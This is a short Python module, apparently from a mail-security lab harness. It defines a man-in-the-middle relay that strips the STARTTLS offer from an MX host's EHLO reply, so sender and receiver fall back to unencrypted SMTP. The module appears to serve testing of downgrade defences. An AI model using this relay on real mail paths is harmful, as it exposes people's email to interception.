"""An attacker on the path to an MX host, who takes STARTTLS out of the reply to EHLO.

    attacker = StrippingAttacker(lab, mx)              .address, the one that the sender connects to
    attacker.strips = False                            from now on all is passed on as it is
    attacker.seen_as = sender.address                  the client that the MX host sees
"""

import select
import socket

from lab import Lab
from lab.postfix import Receiver
from lab.smtp_server import Peer, SmtpServer


class StrippingAttacker:
    def __init__(self, lab: Lab, mx: Receiver) -> None:
        self._mx = (mx.address, mx.port)
        self.strips = True
        self.seen_as = ""
        self.address = SmtpServer(lab, self._relay).address

    def _relay(self, peer: Peer) -> None:
        with socket.create_connection(self._mx, source_address=(self.seen_as, 0)) as mx:
            while True:
                for one in select.select([peer.socket, mx], [], [])[0]:
                    received = one.recv(65536)
                    if not received:
                        return
                    if self.strips:
                        received = received.replace(b"250-STARTTLS\r\n", b"")
                    (mx if one is peer.socket else peer.socket).sendall(received)
